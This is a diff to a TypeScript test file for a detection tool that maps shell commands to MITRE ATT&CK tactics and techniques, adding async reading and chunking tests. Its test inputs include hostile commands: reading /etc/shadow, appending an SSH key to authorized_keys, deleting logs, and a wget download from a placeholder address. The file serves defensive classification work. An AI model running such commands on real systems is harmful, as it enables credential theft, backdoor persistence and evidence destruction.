@@ -10,11 +10,13 @@ import { readCommands } from './command-reader.js'
 import { statementsOf } from './statements.js'
 import { TacticModelFile } from './tactic-model.js'
 
-const read = (...commands: string[]) =>
-  readCommands(
+const read = async (...commands: string[]) => {
+  const { statements } = await readCommands(
     commands.map((command, n) => ({ event_id: String(n), command })),
     null,
   )
+  return statements
+}
 
 describe('statements', () => {
   test.each([
@@ -39,17 +41,43 @@ describe('statements', () => {
   })
 })
 
-test('without a model rules say what a statement is for', () => {
+test('without a model rules say what a statement is for', async () => {
   expect(
-    read('uname -a; cat /etc/shadow', 'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys', 'rm -rf /var/log/x').map(
-      ({ event_id, tactic, techniques }) => [event_id, tactic, techniques[0]],
-    ),
+    (
+      await read(
+        'uname -a; cat /etc/shadow',
+        'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys',
+        'rm -rf /var/log/x',
+      )
+    ).map(({ event_id, tactic, techniques }) => [event_id, tactic, techniques[0]]),
   ).toEqual([
     ['0', 'Discovery', 'T1082'],
     ['0', 'Discovery', 'T1003.008'],
     ['1', 'Persistence', 'T1098.004'],
     ['2', 'Defense Evasion', 'T1070.002'],
   ])
+})
+
+test('a long session is read in turns up to 500 statements and 256 Ki characters, and what was read is stated', async () => {
+  const short = Array.from({ length: 2_000 }, (_, n) => ({ event_id: String(n), command: 'uname -a; id; w' }))
+  const many = await readCommands(short, null)
+  expect([many.statements.length, many.read]).toEqual([500, 167])
+
+  const model = TacticModelFile.parse(JSON.parse(readFileSync(TACTIC_MODEL, 'utf8')))
+  const long = Array.from({ length: 2_000 }, (_, n) => ({
+    event_id: String(n),
+    command: 'wget http://192.0.2.1/x; '.repeat(655),
+  }))
+  let turns = 0
+  const few = await readCommands(long, model, async () => {
+    turns += 1
+  })
+  expect(few.read).toBeLessThan(10)
+  expect(few.statements.length).toBe(500)
+  // 500 statements of 64 + 24 characters, read and guessed: no turn has more than 16,384 characters of work.
+  expect(turns).toBeGreaterThanOrEqual(Math.floor((500 * (64 + 24) + 500 * (64 + 3 * 24)) / 16_384) - 1)
+  const large = Array.from({ length: 100 }, (_, n) => ({ event_id: String(n), command: 'x'.repeat(16_384) }))
+  expect((await readCommands(large, null)).read).toBe(16)
 })
 
 describe('training', () => {
@@ -62,10 +90,11 @@ describe('training', () => {
     ).join('\n'),
   )
 
-  test('the same sessions give the same file, and it tells what it was taught', () => {
+  test('the same sessions give the same file, and it tells what it was taught', async () => {
     const model = trainTactics(small)
     expect(JSON.stringify(trainTactics(small))).toBe(JSON.stringify(model))
-    const [statement] = readCommands([{ event_id: 'e', command: 'uname -r' }], model)
+    const { statements } = await readCommands([{ event_id: 'e', command: 'uname -r' }], model)
+    const [statement] = statements
     expect(statement).toMatchObject({ tactic: 'Discovery' })
     expect(statement?.probability).toBeGreaterThan(0.5)
   })
